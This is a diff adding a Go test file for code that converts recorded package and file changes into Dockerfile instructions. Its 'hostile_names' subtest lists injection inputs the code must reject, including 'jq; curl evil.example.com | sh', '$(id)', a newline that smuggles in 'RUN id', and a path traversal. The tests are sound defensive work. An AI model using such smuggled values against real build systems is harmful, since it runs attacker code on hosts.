@@ -0,0 +1,94 @@
+// Copyright 2026 Marc-Antoine Ruel. All Rights Reserved. Use of this
+// source code is governed by the Apache v2 license that can be found in the
+// LICENSE file.
+
+package md
+
+import (
+	"slices"
+	"testing"
+)
+
+func TestBakeInstructions(t *testing.T) {
+	changes := []FSChange{
+		{Category: FSApt, Item: "htop", Kind: "added"},
+		{Category: FSApt, Item: "jq", Kind: "added"},
+		{Category: FSNpm, Item: "@scope/pkg", Kind: "added"},
+		{Category: FSGo, Item: "gopls", Kind: "added", Path: "/home/user/go/bin/gopls"},
+		{Category: FSPython, Item: "ruff", Kind: "added", Path: "/home/user/.local/share/uv/tools/ruff"},
+		{Category: FSDotfile, Item: "~/.gitconfig", Kind: "changed", Path: "/home/user/.gitconfig"},
+		{Category: FSConfig, Item: "/etc/motd", Kind: "deleted", Path: "/etc/motd"},
+	}
+	lines, copies, err := bakeInstructions(changes, map[string]string{"gopls": "golang.org/x/tools/gopls@v0.16.0"}, nil)
+	if err != nil {
+		t.Fatal(err)
+	}
+	want := []string{
+		"RUN apt-get update && apt-get install -y --no-install-recommends htop jq && rm -rf /var/lib/apt/lists/*",
+		"RUN su user -c 'npm install -g @scope/pkg'",
+		"RUN su user -c 'go install golang.org/x/tools/gopls@v0.16.0'",
+		"RUN su user -c 'uv tool install ruff'",
+		"COPY --chown=user:user bake/home/user/.gitconfig /home/user/.gitconfig",
+		"RUN rm -rf /etc/motd",
+	}
+	if !slices.Equal(lines, want) {
+		t.Errorf("lines:\ngot  %q\nwant %q", lines, want)
+	}
+	if !slices.Equal(copies, []string{"/home/user/.gitconfig"}) {
+		t.Errorf("copies = %v", copies)
+	}
+
+	t.Run("unknown_go_module", func(t *testing.T) {
+		if _, _, err := bakeInstructions([]FSChange{{Category: FSGo, Item: "x", Kind: "added"}}, nil, nil); err == nil {
+			t.Fatal("expected error")
+		}
+	})
+	t.Run("hostile_names", func(t *testing.T) {
+		for _, tc := range []struct {
+			ch     FSChange
+			goMods map[string]string
+		}{
+			{ch: FSChange{Category: FSApt, Item: "jq; curl evil.example.com | sh", Kind: "added"}},
+			{ch: FSChange{Category: FSNpm, Item: "x$(id)", Kind: "added"}},
+			{ch: FSChange{Category: FSPython, Item: "ruff'; touch /tmp/x; '", Kind: "added", Path: "/home/user/.local/share/uv/tools/ruff"}},
+			{ch: FSChange{Category: FSGo, Item: "x", Kind: "added"}, goMods: map[string]string{"x": "example.com/x@v1 && id"}},
+			{ch: FSChange{Category: FSDotfile, Item: "~/.x", Kind: "changed", Path: "/home/user/.x\nRUN id"}},
+			{ch: FSChange{Category: FSDotfile, Item: "~/.$HOME x", Kind: "changed", Path: "/home/user/.$HOME x"}},
+			{ch: FSChange{Category: FSConfig, Item: "/etc/*", Kind: "deleted", Path: "/etc/*"}},
+			{ch: FSChange{Category: FSBin, Item: "..", Kind: "changed", Path: "/usr/local/bin/../../../x"}},
+		} {
+			if lines, _, err := bakeInstructions([]FSChange{tc.ch}, tc.goMods, nil); err == nil {
+				t.Errorf("%q: got %q, expected error", tc.ch.Path+tc.ch.Item, lines)
+			}
+		}
+	})
+	t.Run("system_rejected", func(t *testing.T) {
+		if _, _, err := bakeInstructions([]FSChange{{Category: FSSystem, Item: "/usr/bin", Kind: "added"}}, nil, nil); err == nil {
+			t.Fatal("expected error")
+		}
+	})
+}
+
+func TestParseGoVersionM(t *testing.T) {
+	out := "/home/user/go/bin/gopls: go1.25.0\n\tpath\tgolang.org/x/tools/gopls\n\tmod\tgolang.org/x/tools/gopls\tv0.16.0\th1:abc=\n\tdep\tgolang.org/x/mod\tv0.20.0\th1:def=\n"
+	if got := parseGoVersionM(out); got != "golang.org/x/tools/gopls@v0.16.0" {
+		t.Errorf("parseGoVersionM() = %q", got)
+	}
+	if got := parseGoVersionM("garbage"); got != "" {
+		t.Errorf("parseGoVersionM(garbage) = %q", got)
+	}
+}
+
+func TestParseCratesToml(t *testing.T) {
+	s := "[v1]\n\"ripgrep 14.1.0 (registry+https://github.com/rust-lang/crates.io-index)\" = [\"rg\"]\n\"fd-find 10.2.0 (registry+https://github.com/rust-lang/crates.io-index)\" = [\"fd\", \"fdfind\"]\n"
+	got := parseCratesToml(s)
+	want := map[string]string{"rg": "ripgrep@14.1.0", "fd": "fd-find@10.2.0", "fdfind": "fd-find@10.2.0"}
+	if len(got) != len(want) {
+		t.Fatalf("got %v, want %v", got, want)
+	}
+	for k, v := range want {
+		if got[k] != v {
+			t.Errorf("got[%q] = %q, want %q", k, got[k], v)
+		}
+	}
+}